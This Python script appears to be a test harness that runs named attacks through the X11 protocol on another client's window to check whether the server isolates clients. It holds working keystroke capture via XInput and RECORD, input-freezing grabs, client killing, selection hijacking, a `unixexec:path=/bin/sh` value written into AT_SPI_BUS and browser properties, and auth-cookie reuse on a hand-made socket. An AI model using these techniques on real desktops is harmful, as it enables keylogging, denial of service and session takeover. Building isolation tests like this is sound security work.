"""An agent that tries the side doors of X11; a program of its own, `python side_doors.py ATTACK VICTIM`.

VICTIM is the X id of somebody else's window; a third argument is a file that tells when to go on. After each attempt
it makes a round trip, then says `went on` with the number of errors that the server sent: a client that hangs or
whose sequence numbers are off never gets there.
"""

from __future__ import annotations

import os
import socket
import struct
import sys
import threading
from pathlib import Path
from typing import TYPE_CHECKING, Any

from Xlib import X, error, xauth
from Xlib.display import Display
from Xlib.ext import record
from Xlib.protocol import event, request, rq

if TYPE_CHECKING:
    from collections.abc import Callable


class Raw(rq.Request):
    """Any request, as bytes after the first two."""

    _request = rq.Struct(rq.Card8("opcode"), rq.Card8("minor"), rq.RequestLength(), rq.Binary("body"))


class RawAsked(rq.ReplyRequest):
    """Any request with a reply; nothing of the reply is read."""

    _request = rq.Struct(rq.Card8("opcode"), rq.Card8("minor"), rq.RequestLength(), rq.Binary("body"))
    _reply = rq.Struct(rq.ReplyCode(), rq.Pad(1), rq.Card16("sequence_number"), rq.ReplyLength(), rq.Pad(24))


class Agent:
    """One connection, and somebody else's window."""

    def __init__(self, victim: int) -> None:
        self.display = Display()
        self.errors: list[str] = []
        self.display.set_error_handler(lambda e, _request: self.errors.append(type(e).__name__))
        self.root = self.display.screen().root
        self.victim = self.display.create_resource_object("window", victim)
        self.own = self.root.create_window(
            10, 10, 50, 50, 0, X.CopyFromParent, event_mask=X.PropertyChangeMask, override_redirect=True
        )
        self.own.map()
        self.display.sync()

    def atom(self, name: str) -> int:
        return int(self.display.intern_atom(name))

    def raw(self, opcode: int, body: bytes = b"", minor: int = 0) -> None:
        Raw(display=self.display.display, opcode=opcode, minor=minor, body=body)

    def asked(self, opcode: int, body: bytes = b"", minor: int = 0) -> str:
        """Make a request with a reply; gives the error's name, or nothing."""
        try:
            RawAsked(display=self.display.display, opcode=opcode, minor=minor, body=body)
        except error.XError as e:
            return type(e).__name__
        return "answered"

    def extension(self, name: str) -> int:
        found = self.display.query_extension(name)
        return int(found.major_opcode) if found is not None and found.present else 0

    def message(self, to: Any, about: Any, name: str, *data: int) -> None:
        words = (32, [*data, *[0] * (5 - len(data))])
        sent = event.ClientMessage(window=about, client_type=self.atom(name), data=words)
        to.send_event(sent, event_mask=X.SubstructureRedirectMask | X.SubstructureNotifyMask)


def say(words: object) -> None:
    sys.stdout.write(f"{words}\n")


def stay() -> None:
    """Say that it is done by making a file, and stay until the file is gone."""
    Path(sys.argv[3]).touch()
    rest = threading.Event()
    for _ in range(2000):
        if rest.wait(0.01) or not Path(sys.argv[3]).exists():
            return


def grab_server(agent: Agent) -> None:
    agent.display.grab_server()
    agent.display.sync()
    say("grabbed")
    stay()


def grab_keyboard(agent: Agent) -> None:
    say(agent.root.grab_keyboard(True, X.GrabModeSync, X.GrabModeSync, X.CurrentTime))


def grab_pointer(agent: Agent) -> None:
    status = agent.victim.grab_pointer(
        True, X.ButtonPressMask, X.GrabModeSync, X.GrabModeSync, agent.victim.id, X.NONE, X.CurrentTime
    )
    say(status)


def grab_own_frozen(agent: Agent) -> None:
    """Freeze the keyboard by a grab on an own window, and stay."""
    say(agent.own.grab_keyboard(True, X.GrabModeSync, X.GrabModeSync, X.CurrentTime))
    modes = (X.GrabModeSync, X.GrabModeSync)
    say(agent.own.grab_pointer(True, X.ButtonPressMask, *modes, X.NONE, X.NONE, X.CurrentTime))
    agent.display.sync()
    stay()


def passive_grab(agent: Agent) -> None:
    agent.root.grab_key(X.AnyKey, X.AnyModifier, True, X.GrabModeAsync, X.GrabModeSync)
    agent.root.grab_button(
        X.AnyButton, X.AnyModifier, True, X.ButtonPressMask, X.GrabModeSync, X.GrabModeSync, X.NONE, X.NONE
    )


def unmap(agent: Agent) -> None:
    agent.victim.unmap_sub_windows()
    agent.root.unmap_sub_windows()


def destroy_sub(agent: Agent) -> None:
    agent.victim.destroy_sub_windows()


def reparent(agent: Agent) -> None:
    agent.victim.reparent(agent.own, 0, 0)


def child(agent: Agent) -> None:
    agent.victim.create_window(0, 0, 500, 500, 0, X.CopyFromParent).map()


def attributes(agent: Agent) -> None:
    agent.victim.change_attributes(override_redirect=True, background_pixel=0xFF0000)
    agent.victim.clear_area()


def paint(agent: Agent) -> None:
    pen = agent.root.create_gc(foreground=0xFF0000, subwindow_mode=X.IncludeInferiors)
    for window in (agent.victim, agent.root):
        window.fill_rectangle(pen, 0, 0, 2000, 2000)
    pixmap = agent.root.create_pixmap(64, 64, agent.display.screen().root_depth)
    pixmap.fill_rectangle(pen, 0, 0, 64, 64)
    agent.root.copy_area(pen, pixmap, 0, 0, 64, 64, 0, 0)
    agent.victim.copy_area(pen, pixmap, 0, 0, 64, 64, 0, 0)


def listen(agent: Agent) -> None:
    """Ask for the victim's and everybody's keys, and say which come."""
    agent.victim.change_attributes(event_mask=X.KeyPressMask | X.KeymapStateMask)
    agent.root.change_attributes(event_mask=X.KeyPressMask)
    opcode = agent.extension("XInputExtension")
    agent.asked(opcode, bytes([2, 0, 2, 0]), 47)
    for window in (agent.root.id, agent.victim.id):
        body = window.to_bytes(4, sys.byteorder) + (1).to_bytes(2, sys.byteorder) + bytes(2)
        mask = sum(1 << kind for kind in (2, 3, 13, 14))
        agent.raw(opcode, body + bytes([0, 0]) + (1).to_bytes(2, sys.byteorder) + mask.to_bytes(4, sys.byteorder), 46)
    agent.display.sync()
    say("listening")
    stay()
    agent.display.sync()
    say(f"heard {agent.display.pending_events()}")


def keymap(agent: Agent) -> None:
    """Say how many keys are down."""
    stay()
    say(sum(byte.bit_count() for byte in agent.display.query_keymap()))


def record_keys(agent: Agent) -> None:
    everything = {
        **dict.fromkeys(("core_requests", "core_replies", "delivered_events", "errors"), (0, 0)),
        **dict.fromkeys(("ext_requests", "ext_replies"), (0, 0, 0, 0)),
        "device_events": (X.KeyPress, X.MotionNotify),
        "client_started": False,
        "client_died": False,
    }
    try:
        context = agent.display.record_create_context(0, [record.AllClients], [everything])
        agent.display.record_enable_context(context, lambda _reply: None)
    except error.XError as e:
        say(type(e).__name__)


def properties(agent: Agent) -> None:
    for window in (agent.root, agent.victim):
        for name in ("AT_SPI_BUS", "RESOURCE_MANAGER", "_MOZILLA_COMMAND", "WM_NAME"):
            window.change_property(agent.atom(name), X.NONE or 31, 8, b"unixexec:path=/bin/sh")
        window.delete_property(agent.atom("WM_NAME"))
        request.GetProperty(
            display=agent.display.display,
            delete=1,
            window=window,
            property=agent.atom("WM_NAME"),
            type=X.AnyPropertyType,
            long_offset=0,
            long_length=1000,
        )


def selections(agent: Agent) -> None:
    for name in ("_XSETTINGS_S0", "WM_S0", "_NET_WM_CM_S0", "_NET_SYSTEM_TRAY_S0"):
        agent.own.set_selection_owner(agent.atom(name), X.CurrentTime)
    agent.own.set_selection_owner(agent.atom("CLIPBOARD"), X.CurrentTime)


def devices(agent: Agent) -> None:
    opcode = agent.extension("XInputExtension")
    order = sys.byteorder
    agent.asked(opcode, bytes([2, 0, 2, 0]), 47)
    # XIChangeHierarchy: a new master called `evil`.
    body = bytes([1, 0, 0, 0]) + (1).to_bytes(2, order) + (3).to_bytes(2, order) + (4).to_bytes(2, order)
    agent.raw(opcode, body + bytes([1, 1]) + b"evil", 43)
    for device in range(2, 14):
        enabled = agent.atom("Device Enabled")
        head = device.to_bytes(2, order) + bytes([0, 8]) + enabled.to_bytes(4, order)
        agent.raw(opcode, head + (19).to_bytes(4, order) + (1).to_bytes(4, order) + bytes(4), 57)
    xkb = agent.extension("XKEYBOARD")
    agent.asked(xkb, bytes([1, 0, 0, 0]), 0)
    agent.raw(xkb, (0x100).to_bytes(2, order) + bytes([255, 2, 0, 0, 255, 4, 0, 0, 0, 0]), 5)
    agent.raw(102, (0x80).to_bytes(4, order) + bytes(4))
    agent.raw(105, (7).to_bytes(2, order) + (1).to_bytes(2, order) + (7).to_bytes(2, order) + bytes([1, 1]))
    say(agent.asked(118, bytes(8), 1))
    say(agent.asked(116, bytes([3, 2, 1, 0]), 3))


def screen(agent: Agent) -> None:
    order = sys.byteorder
    randr = agent.extension("RANDR")
    agent.raw(randr, agent.root.id.to_bytes(4, order) + bytes([0, 2, 88, 2]) + bytes([1, 0, 0, 0]) * 2, 7)
    say(agent.asked(randr, agent.root.id.to_bytes(4, order) + bytes(16), 2))
    agent.raw(115, b"", 1)
    agent.display.set_screen_saver(1, 1, X.PreferBlanking, X.AllowExposures)
    agent.raw(111, b"", 0)
    agent.raw(112, b"", 1)
    xfixes_opcode = agent.extension("XFIXES")
    agent.asked(xfixes_opcode, (5).to_bytes(4, order) + bytes(4), 0)
    agent.raw(xfixes_opcode, agent.root.id.to_bytes(4, order), 29)
    composite = agent.extension("Composite")
    agent.asked(composite, bytes(8), 0)
    agent.raw(composite, agent.victim.id.to_bytes(4, order) + bytes([1, 0, 0, 0]), 1)
    say(agent.asked(composite, agent.root.id.to_bytes(4, order), 7))
    agent.raw(agent.extension("SHAPE"), bytes([0, 0, 0, 0]) + agent.victim.id.to_bytes(4, order) + bytes(4), 1)


def hidden(agent: Agent) -> None:
    say(agent.extension("VNC-EXTENSION"))
    say(agent.extension("SHAPE") != 0)


def kill_temporary(agent: Agent) -> None:
    agent.raw(113, bytes(4))


def close(agent: Agent) -> None:
    agent.message(agent.root, agent.victim, "_NET_CLOSE_WINDOW", X.CurrentTime, 2)


def kill(agent: Agent) -> None:
    agent.victim.kill_client()


def destroy(agent: Agent) -> None:
    agent.victim.destroy()


def focus(agent: Agent) -> None:
    agent.victim.set_input_focus(X.RevertToParent, X.CurrentTime)


def nowhere(agent: Agent) -> None:
    agent.display.set_input_focus(X.NONE, X.RevertToNone, X.CurrentTime)


def command(agent: Agent) -> None:
    agent.message(agent.root, agent.root, "_OB_CONTROL", 3)


def move(agent: Agent) -> None:
    agent.victim.configure(x=321, y=123)


def grab_all_keys(agent: Agent) -> None:
    """Take every key on an own window that has the focus, in wait and at once, and stay."""
    agent.own.set_input_focus(X.RevertToParent, X.CurrentTime)
    agent.own.grab_key(X.AnyKey, X.AnyModifier, False, X.GrabModeAsync, X.GrabModeAsync)
    say(agent.own.grab_keyboard(False, X.GrabModeAsync, X.GrabModeAsync, X.CurrentTime))
    agent.display.sync()
    stay()


def from_the_big_end(agent: Agent) -> None:
    """Speak to the server in the other byte order, in the long form too, on a connection made by hand."""
    data = b""
    number = int(os.environ["DISPLAY"].split(":")[1].split(".")[0])
    for entry in xauth.Xauthority().entries:
        if entry[3] == b"MIT-MAGIC-COOKIE-1":
            data = entry[4]
    link = socket.socket(socket.AF_UNIX)
    link.connect(f"/tmp/.X11-unix/X{number}")
    link.sendall(struct.pack(">BxHHHHxx", 0x42, 11, 0, 18, 16) + b"MIT-MAGIC-COOKIE-1\0\0" + data)
    head = link.recv(8, socket.MSG_WAITALL)
    link.recv(4 * struct.unpack(">H", head[6:8])[0], socket.MSG_WAITALL)
    big, victim = agent.extension("BIG-REQUESTS"), agent.victim.id
    randr = agent.extension("RANDR")
    attempts = [
        struct.pack(">BBH", 36, 0, 1),
        struct.pack(">BBHI", 5, 0, 2, victim),
        struct.pack(">BBHI", 11, 0, 2, victim),
        struct.pack(">BBHII", 2, 0, 4, victim, 0x200) + struct.pack(">I", 1),
        struct.pack(">BBHIIIB3xI", 18, 0, 7, agent.root.id, agent.atom("AT_SPI_BUS"), 31, 8, 4) + b"evil",
        struct.pack(">BBHIIII", 70, 0, 5, victim, victim, 0, 0),
        struct.pack(">BBHII", 12, 0, 3, victim, 0),
        struct.pack(">BBHI4xI12x", randr, 21, 7, 1, 0),
        struct.pack(">BBH", big, 0, 1),
        struct.pack(">BBHII", 5, 0, 0, 3, victim),
        struct.pack(">BBHIII", 113, 0, 0, 4, victim, 0),
        struct.pack(">BBHII", 10, 0, 0, 3, victim),
    ]
    link.sendall(b"".join(attempts) + struct.pack(">BBH", 43, 0, 1))
    kinds = []
    while True:
        packet = link.recv(32, socket.MSG_WAITALL)
        kind, number = packet[0], struct.unpack(">H", packet[2:4])[0]
        kinds.append((kind, number))
        if kind == 1 and number == len(attempts) + 1:
            break
    say(kinds)


def own_things(agent: Agent) -> None:
    """Everything that a program may do to its own."""
    own = agent.own
    own.configure(x=20, y=20, stack_mode=X.Above)
    own.change_attributes(background_pixel=0x00FF00, event_mask=X.KeyPressMask | X.ButtonPressMask)
    own.change_property(agent.atom("WM_NAME"), 31, 8, b"mine")
    inner = own.create_window(0, 0, 5, 5, 0, X.CopyFromParent)
    inner.map()
    inner.reparent(agent.root, 0, 0)
    pen = own.create_gc(foreground=0xFF)
    own.fill_rectangle(pen, 0, 0, 10, 10)
    own.set_input_focus(X.RevertToParent, X.CurrentTime)
    own.grab_key(X.AnyKey, X.AnyModifier, True, X.GrabModeAsync, X.GrabModeAsync)
    say(own.grab_pointer(True, 0, X.GrabModeAsync, X.GrabModeAsync, X.NONE, X.NONE, X.CurrentTime))
    agent.display.ungrab_pointer(X.CurrentTime)
    own.set_selection_owner(agent.atom("PRIMARY"), X.CurrentTime)
    agent.message(agent.root, own, "_NET_WM_STATE", 1)
    inner.destroy()
    agent.display.sync()
    say(own.get_full_text_property(agent.atom("WM_NAME")))
    say(agent.display.get_selection_owner(agent.atom("PRIMARY")) == own)


ATTACKS: dict[str, Callable[[Agent], None]] = {
    made.__name__: made
    for made in (
        *(grab_server, grab_keyboard, grab_pointer, grab_own_frozen, passive_grab, unmap, destroy_sub, reparent),
        *(child, attributes, paint, listen, keymap, record_keys, properties, selections, devices, screen, hidden),
        *(
            grab_all_keys,
            from_the_big_end,
            kill_temporary,
            close,
            kill,
            destroy,
            focus,
            nowhere,
            command,
            move,
            own_things,
        ),
    )
}


def main() -> None:
    agent = Agent(int(sys.argv[2], 0))
    agent.errors.clear()
    ATTACKS[sys.argv[1]](agent)
    agent.display.sync()
    name = agent.display.get_atom_name(agent.atom("PRIMARY"))
    say(f"went on {name} {len(agent.errors)}")


if __name__ == "__main__":
    main()
